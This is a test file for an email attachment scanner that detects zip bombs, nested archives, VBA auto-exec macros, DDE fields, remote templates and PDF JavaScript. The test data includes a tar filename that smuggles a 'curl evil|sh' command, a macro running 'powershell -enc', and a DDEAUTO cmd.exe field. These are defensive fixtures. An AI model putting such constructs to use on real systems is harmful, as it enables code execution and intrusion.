import { test } from 'node:test';
import assert from 'node:assert/strict';
import { randomBytes } from 'node:crypto';
import { gzipSync } from 'fflate';
import { inspectArchive, listZip, boundedInflate } from '../../../src/mail/inspect/archive.js';
import { listTar, looksLikeTar } from '../../../src/mail/inspect/tar.js';
import { inspectOle, ovbaDecompress } from '../../../src/mail/inspect/ole.js';
import { inspectOoxml } from '../../../src/mail/inspect/ooxml.js';
import { inspectPdf } from '../../../src/mail/inspect/pdf.js';
import { sniff } from '../../../src/mail/inspect/sniff.js';
import { docx, markEncrypted, oleWith, oleWithVba, ovbaRaw, tar, zip } from './build.js';

test('sniff recognises types by content', () => {
  assert.equal(sniff(Buffer.from('MZ\x90\x00')), 'pe');
  assert.equal(sniff(zip({ 'a.txt': 'x' })), 'zip');
  assert.equal(sniff(Buffer.from('Rar!\x1a\x07\x01\x00')), 'rar');
  assert.equal(sniff(gzipSync(Buffer.from('x'))), 'gzip');
  const iso = new Uint8Array(0x8010); iso.set(Buffer.from('CD001'), 0x8001);
  assert.equal(sniff(iso), 'iso');
  assert.equal(sniff(Buffer.from('conectix' + '\0'.repeat(600))), 'vhd');
  assert.equal(sniff(Buffer.from('<html><body>x')), 'html');
  assert.equal(sniff(Buffer.from('<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg">')), 'svg');
  assert.equal(sniff(Buffer.from([0xe4, 0x52, 0x5c, 0x7b, 0x8c, 0xd8, 0xa7, 0x4d, 0xae, 0xb1, 0x53, 0x78, 0xd0, 0x29, 0x96, 0xd3, 0])), 'onenote');
  assert.equal(sniff(Buffer.from([0x4c, 0, 0, 0, 1, 0x14, 2, 0, 0])), 'lnk');
  assert.equal(sniff(tar([{ name: 'a', data: 'b' }])), 'tar');
});

test('zip listing: names, sizes and the encryption flag', () => {
  const z = listZip(markEncrypted(zip({ 'invoice.exe': 'MZ'.padEnd(100, 'x'), 'readme.txt': 'hi' })));
  assert.deepEqual(z.entries.map((e) => e.name), ['invoice.exe', 'readme.txt']);
  assert.ok(z.entries.every((e) => (e.flags & 1) === 1));
});

test('inspectArchive: nested archives with depth, encrypted members', () => {
  const inner = markEncrypted(zip({ 'secret.js': 'WScript.Shell' }));
  const outer = zip({ 'docs/inner.zip': inner, 'a.txt': 'x' });
  const r = inspectArchive('outer.zip', outer);
  assert.deepEqual(r.encrypted, ['docs/inner.zip']);
  const sec = r.members.find((m) => m.name === 'secret.js');
  assert.deepEqual(sec?.container, ['outer.zip', 'docs/inner.zip']);
  assert.equal(sec?.encrypted, true);
});

test('inspectArchive: deep nesting stops at the depth bound', () => {
  let z = zip({ 'payload.exe': 'MZ' });
  for (let i = 0; i < 12; i++) z = zip({ [`level${i}.zip`]: z }, 0);
  const r = inspectArchive('deep.zip', z);
  assert.ok(r.truncated);
  assert.ok(!r.members.some((m) => m.name === 'payload.exe'));
  assert.ok(r.members.length <= 6);
});

test('inspectArchive: a zip bomb is reported, not expanded', () => {
  const zeros = new Uint8Array(8 * 1024 * 1024);
  const bomb = zip({ 'big.iso': zeros }, 9);
  assert.ok(bomb.length < 50_000);
  const r = inspectArchive('bomb.zip', bomb);
  assert.deepEqual(r.bombs, ['bomb.zip/big.iso']);
  // sizes that lie: the central directory claims 100 bytes, inflation still stops at the member budget
  const liar = new Uint8Array(bomb);
  const cd = Buffer.from(liar).indexOf(Buffer.from([0x50, 0x4b, 0x01, 0x02]));
  new DataView(liar.buffer).setUint32(cd + 24, 100, true);
  const r2 = inspectArchive('liar.zip', liar, { maxDepth: 3, maxMembers: 10, maxTotal: 2 * 1024 * 1024, maxMember: 1024 * 1024, maxRatio: 200 });
  const m = r2.members.find((x) => x.name === 'big.iso');
  assert.ok(r2.bombs.length === 1 || (m?.content?.length ?? 0) <= 1024 * 1024);
});

test('boundedInflate stops at the limit', () => {
  const big = gzipSync(new Uint8Array(8 * 1024 * 1024));
  const r = boundedInflate(big, 1024 * 1024, true);
  assert.equal(r.complete, false);
  assert.ok(r.out.length <= 1024 * 1024);
});

test('tar: ustar names, GNU long names, gzip-wrapped tar', () => {
  const long = 'dir/'.repeat(40) + 'file.txt';
  const t = tar([{ name: 'a.txt', data: 'hello' }, { name: long, data: 'x' }, { name: "'`curl evil|sh`'.tar" }]);
  assert.ok(looksLikeTar(t));
  const l = listTar(t);
  assert.deepEqual(l.members.map((m) => m.name), ['a.txt', long, "'`curl evil|sh`'.tar"]);
  const r = inspectArchive('x.tar.gz', gzipSync(t));
  assert.ok(r.members.some((m) => m.name === long && m.kind === 'tar'));
});

test('MS-OVBA decompression: raw chunks and compressed literal tokens', () => {
  assert.equal(Buffer.from(ovbaDecompress(ovbaRaw(Buffer.from('Sub AutoOpen()')))).toString('latin1').replace(/\0+$/, ''), 'Sub AutoOpen()');
  // compressed chunk: header (size-3 | 0x3000 | 0x8000), flag byte 0 (8 literals) "abcdefgh", then flag 0b1 + copy token
  // copy token at decompressed position 8: bitCount 4, offset 8, length 8 → token ((8-1)<<12)|(8-3)
  const token = ((8 - 1) << 12) | (8 - 3);
  const payload = [0x00, ...Buffer.from('abcdefgh'), 0x01, token & 0xff, token >> 8];
  const size = payload.length + 2;
  const container = Uint8Array.from([1, (size - 3) & 0xff, 0xb0 | ((size - 3) >> 8), ...payload]);
  assert.equal(Buffer.from(ovbaDecompress(container)).toString('latin1'), 'abcdefghabcdefgh');
});

test('OLE: VBA project with auto-exec and risky calls; plain OLE has none', () => {
  const r = inspectOle(oleWithVba('Attribute VB_Name = "Module1"\r\nSub AutoOpen()\r\n  Shell "powershell -enc AAAA"\r\nEnd Sub\r\n'));
  assert.equal(r.vba, true);
  assert.deepEqual(r.modules, ['Module1']);
  assert.ok(r.autoExec.includes('autoopen'));
  assert.ok(r.suspicious.includes('powershell'));
  const plain = inspectOle(oleWith({ '/WordDocument': new Uint8Array(600) }));
  assert.equal(plain.vba, false);
  const pkg = inspectOle(oleWith({ '/WordDocument': new Uint8Array(600), '/ObjectPool/_1234/\u0001Ole10Native': 'MZ' }));
  assert.ok(pkg.objects.length >= 1);
  const enc = inspectOle(oleWith({ '/EncryptionInfo': 'x', '/EncryptedPackage': 'y' }));
  assert.equal(enc.encrypted, true);
});

test('OOXML: vbaProject.bin, remote template, embedded object, DDE', () => {
  const rels = '<Relationships><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="http://203.0.113.9/t.dotm" TargetMode="External"/></Relationships>';
  const dde = '<w:document><w:body><w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc.exe"</w:instrText></w:r></w:p></w:body></w:document>';
  const r = inspectOoxml(docx({ 'word/_rels/settings.xml.rels': rels, 'word/vbaProject.bin': oleWithVba('Sub Document_Open()\r\nEnd Sub', 'VBA_ROOT'), 'word/embeddings/oleObject1.bin': 'x' }, dde));
  assert.equal(r.isOoxml, true);
  assert.ok(r.vba?.vba);
  assert.match(r.remoteTemplates[0], /attachedTemplate → http:\/\/203\.0\.113\.9\/t\.dotm/);
  assert.deepEqual(r.embedded, ['word/embeddings/oleObject1.bin']);
  assert.match(r.dde[0], /DDEAUTO/);
  const clean = inspectOoxml(docx());
  assert.deepEqual([clean.vba, clean.remoteTemplates.length, clean.embedded.length, clean.dde.length], [undefined, 0, 0, 0]);
});

test('PDF: JavaScript, OpenAction, Launch, URIs', () => {
  const pdf = Buffer.from('%PDF-1.4\n1 0 obj<</Type/Catalog/OpenAction 2 0 R>>endobj\n2 0 obj<</S/JavaScript/JS(app.alert\\(1\\))>>endobj\n3 0 obj<</A<</S/URI/URI(https://bit.ly/abc)>>>>endobj\n');
  const r = inspectPdf(pdf);
  assert.deepEqual([r.javascript, r.openAction, r.launch, r.uris], [true, true, false, ['https://bit.ly/abc']]);
  const plain = inspectPdf(Buffer.from('%PDF-1.4\n1 0 obj<</Type/Catalog>>endobj\n'));
  assert.deepEqual([plain.javascript, plain.openAction, plain.uris.length], [false, false, 0]);
});

test('hostile inputs: random and truncated bytes never throw', () => {
  const samples: Uint8Array[] = [];
  for (let i = 0; i < 30; i++) samples.push(randomBytes(1 + i * 997));
  const z = zip({ 'a.doc': oleWithVba('Sub AutoOpen()\r\nEnd Sub'), 'b.tar': tar([{ name: 'x', data: 'y' }]) });
  for (let cut = 10; cut < z.length; cut += Math.ceil(z.length / 25)) samples.push(z.subarray(0, cut));
  samples.push(Buffer.concat([Buffer.from([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1]), randomBytes(4000)]));
  samples.push(Buffer.concat([Buffer.from('PK\x03\x04'), randomBytes(3000)]));
  samples.push(Buffer.concat([tar([{ name: 'a', data: 'b' }]).subarray(0, 512), randomBytes(2000)]));
  samples.push(Buffer.concat([Buffer.from([1, 0xff, 0xbf]), randomBytes(5000)]));
  for (const s of samples) {
    inspectArchive('x.zip', s);
    inspectOle(s);
    inspectOoxml(s);
    inspectPdf(s);
    listTar(s);
    ovbaDecompress(s);
    ovbaDecompress(Buffer.concat([Buffer.from([1]), s]));
  }
});
